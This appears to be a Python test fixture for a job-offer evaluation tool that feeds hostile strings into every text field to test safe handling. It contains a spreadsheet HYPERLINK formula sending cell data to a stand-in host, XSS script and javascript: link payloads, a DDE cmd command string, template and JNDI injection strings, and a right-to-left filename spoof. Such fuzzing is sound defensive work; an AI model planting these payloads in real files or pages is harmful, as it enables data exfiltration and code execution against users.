"""A decision in which everything that a person or an employer writes tries to be more than text."""

from __future__ import annotations

from datetime import date
from functools import cache
from typing import TYPE_CHECKING, Any

from offer_eval.core.evaluation import evaluate
from offer_eval.core.model import Decision

if TYPE_CHECKING:
    from offer_eval.core.evaluation import Evaluation

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
SCRIPT = '<script>alert(1)</script><img src=x onerror="alert(2)">'
LINK = "](javascript:alert(3)) [click](http://evil.example) ![x](http://evil.example/x.png)"
LINES = "one\r\nBEGIN:VEVENT\nSUMMARY:hidden\n\n# Heading\n- item\x1b[31m\x00"
TURNED = "\u202egnp.exe \u2066\u05e9\u05dc\u05d5\u05dd\u2069 \u0645\u0631\u062d\u0628\u0627 \u200f"
EMOJI = "👩\u200d💻🇦🇹 café ﷽ 🏳️\u200d🌈"
LONG = ("W" * 199) + "|"
TEMPLATE = "{{ 7 * 7 }} {% raw %} ${jndi} %s {0}"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"

ALL = (FORMULA, SCRIPT, LINK, LINES, TURNED, EMOJI, LONG, TEMPLATE, SUM)


def _offer(name: str, number: int) -> dict[str, Any]:
    return {
        "name": name,
        "employer": name,
        "title": name,
        "place": name,
        "base_salary": 50000 + number,
        "terms_in_writing": "no",
        "leaving_reason_refused": "yes",
        "why_last_left": name,
        "ratings": {"ease": number},
        "contact_name": name,
        "answer_by": "2026-11-27",
        "promises": [{"what": name, "by": name}],
        "flags": {"RF302": {"state": "acknowledged", "reason": name}},
        "conditions_open": [name],
    }


@cache
def hostile() -> Evaluation:
    """Every hostile text in every place that takes text."""
    texts = list(ALL)
    decision = Decision.model_validate(
        {
            "title": f"{SCRIPT} {LINK} {FORMULA} {LINES}",
            "signature": SCRIPT,
            "criteria": {
                "salary": {"label": SCRIPT, "measure": "salary", "worst": 40000, "best": 60000, "weight": 2},
                "ease": {"label": LINK, "unit": FORMULA, "measure": "rating", "worst": 0, "best": 10, "weight": 1},
                "odd": {"label": FORMULA, "measure": "rating", "worst": 0, "best": 10, "weight": 1},
            },
            "deal_breakers": [{"name": text, "cure": text, "holds": {texts[0]: "no"}} for text in texts[:4]],
            "offers": [_offer(text, number) for number, text in enumerate(texts)],
            "present_job": {"name": "=1+1", "employer": SCRIPT, "base_salary": 45000, "notice_employee_weeks": 4},
            "processes": [
                {"employer": text, "role": text, "next_step": text, "next_step_on": "2026-11-25",
                 "interview_on": "2026-11-20",
                 "to_say": text, "promised_date": "2026-12-02",
                 "overall": 60}
                for text in texts
            ],
            "gut_choice": texts[1],
            "pre_mortem": texts,
            "record": {"chosen": texts[2], "on": "2026-11-21", "why": SCRIPT, "known": texts, "not_known": texts},
            "weight_edits": [{"criterion": "ease", "before": 1, "after": 2}],
            "reasons_for_leaving": [{"reason": SCRIPT, "share": 1, "in_fact": [texts[0]]}],
        }
    )  # fmt: skip
    return evaluate(decision, today=date(2026, 11, 22))
